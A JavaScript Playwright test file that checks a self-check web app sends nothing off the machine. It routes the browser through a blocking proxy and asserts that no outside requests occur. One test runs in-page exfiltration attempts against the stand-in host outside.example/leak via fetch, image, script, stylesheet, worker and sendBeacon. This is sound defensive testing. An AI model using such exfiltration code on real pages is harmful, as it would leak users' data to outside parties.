// Nothing leaves the machine: not by accident, and not when a page tries to.

import { createServer } from "node:http";
import { answer, download, fillProfile, newRecord, open, waitSaved } from "./support/app.js";
import { asFile, offer, sampleRecord } from "./support/files.js";
import { pages } from "./support/routes.js";
import { expect, NOW, test } from "./support/test.js";

/**
 * Starts a proxy that lets nothing through and notes what came: whatever a page, a worker, a service
 * worker or the network layer itself sends anywhere but to this machine has to pass here.
 * @returns {Promise<{address: string, caught: string[], close: () => void}>}
 */
function startTrap() {
  const caught = [];
  const server = createServer((request, response) => {
    caught.push(`${request.method} ${request.url}`);
    response.writeHead(204).end();
  });
  server.on("connect", (request, socket) => {
    caught.push(`CONNECT ${request.url}`);
    socket.end("HTTP/1.1 403 Forbidden\r\n\r\n");
  });
  return new Promise((resolve) => {
    server.listen(0, "127.0.0.1", () => {
      resolve({
        address: `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (server.address()).port}`,
        caught,
        close: () => server.close(),
      });
    });
  });
}

/**
 * @typedef {object} Watched
 * @property {Awaited<ReturnType<typeof startTrap>>} trap
 * @property {{context: import("@playwright/test").BrowserContext, requests: string[], sockets: string[]}} watched
 *   a context behind the trap, with everything that it asks for and every socket it opens
 */
/** @type {import("./support/test.js").Adding<Watched, import("./support/test.js").Prepared>} */
const watching = {
  trap: async ({}, use) => {
    const trap = await startTrap();
    await use(trap);
    trap.close();
  },
  watched: async ({ browser, trap }, use) => {
    const context = await browser.newContext({
      serviceWorkers: "allow",
      proxy: { server: trap.address, bypass: "127.0.0.1" },
    });
    const requests = [];
    const sockets = [];
    context.on("request", (request) => requests.push(request.url()));
    context.on("page", (page) => page.on("websocket", (socket) => sockets.push(socket.url())));
    await context.clock.setFixedTime(NOW);
    await use({ context, requests, sockets });
    await context.close();
  },
};
const trapped = /** @type {import("./support/test.js").Test<Watched & import("./support/test.js").Prepared>} */ (test.extend(watching));

trapped("a whole self-check asks for nothing outside", async ({ watched, trap, baseURL }) => {
  test.setTimeout(240_000);
  const page = await watched.context.newPage();
  await newRecord(page);
  await fillProfile(page, {
    name: "南宁市某某技工学校",
    kind: "technical-school",
    first_event: "2026-12-22",
  });
  await open(page, "check/17");
  await answer(page, "17.2", "unmet", { note: "https://example.com/?q=不会有人访问", owner: "韦㛃" });
  await waitSaved(page);
  // The service worker's own requests are among those that the trap sees.
  await expect(page.locator("html")).toHaveAttribute("data-offline", "ready", { timeout: 120_000 });
  for (const route of pages) await open(page, route);
  await open(page, "report");
  for (const kind of /** @type {const} */ (["pdf", "xlsx", "ics"])) await download(page, kind);
  await open(page, "data");
  await download(page, "json");
  await offer(page, asFile(sampleRecord()));
  await page.locator('[data-action="confirm-import"]').click();
  await waitSaved(page);

  const { origin } = new URL(baseURL);
  const outside = watched.requests.filter(
    (url) => !url.startsWith(`${origin}/`) && !/^(?:blob|data):/u.test(url),
  );
  expect(outside).toEqual([]);
  expect(watched.requests.filter((url) => url.startsWith(origin)).length).toBeGreaterThan(3);
  expect(watched.sockets).toEqual([]);
  expect(trap.caught).toEqual([]);

  // The trap itself works: an address outside does end there.
  const stranger = await watched.context.newPage();
  await stranger.goto("http://outside.example/").catch(() => {});
  expect(trap.caught.join()).toContain("outside.example");
});

trapped("the policy stops a page that tries", async ({ watched, trap }) => {
  const page = await watched.context.newPage();
  await newRecord(page);
  const tried = await page.evaluate(async () => {
    const target = "http://outside.example/leak";
    const outcome = (promise) =>
      Promise.race([
        promise.then(
          () => "left",
          () => "stopped",
        ),
        new Promise((resolve) => setTimeout(resolve, 3000, "nothing came")),
      ]);
    const event = (element, good) =>
      new Promise((resolve, reject) => {
        element.addEventListener(good, resolve);
        element.addEventListener("error", reject);
      });
    const image = new Image();
    const script = document.createElement("script");
    const style = document.createElement("link");
    style.rel = "stylesheet";
    const worker = new Worker(
      URL.createObjectURL(
        new Blob(
          [
            `fetch(${JSON.stringify(target)}, { mode: "no-cors" }).then(() => postMessage("left"), () => postMessage("stopped"))`,
          ],
          { type: "text/javascript" },
        ),
      ),
    );
    const results = {
      fetch: outcome(fetch(target, { mode: "no-cors" })),
      image: outcome(event(image, "load")),
      script: outcome(event(script, "load")),
      style: outcome(event(style, "load")),
      worker: outcome(
        new Promise((resolve, reject) => {
          worker.onmessage = ({ data }) => (data === "left" ? resolve() : reject(new Error(data)));
          worker.onerror = reject;
        }),
      ),
    };
    navigator.sendBeacon(target, "x");
    image.src = target;
    script.src = target;
    style.href = target;
    document.head.append(script, style);
    const entries = Object.entries(results).map(async ([key, result]) => [key, await result]);
    return Object.fromEntries(await Promise.all(entries));
  });
  // What counts is that nothing came out; the rest tells that each attempt was made.
  expect(trap.caught).toEqual([]);
  expect(tried).toEqual({
    fetch: "stopped",
    image: "stopped",
    script: "stopped",
    style: "stopped",
    worker: "stopped",
  });
});
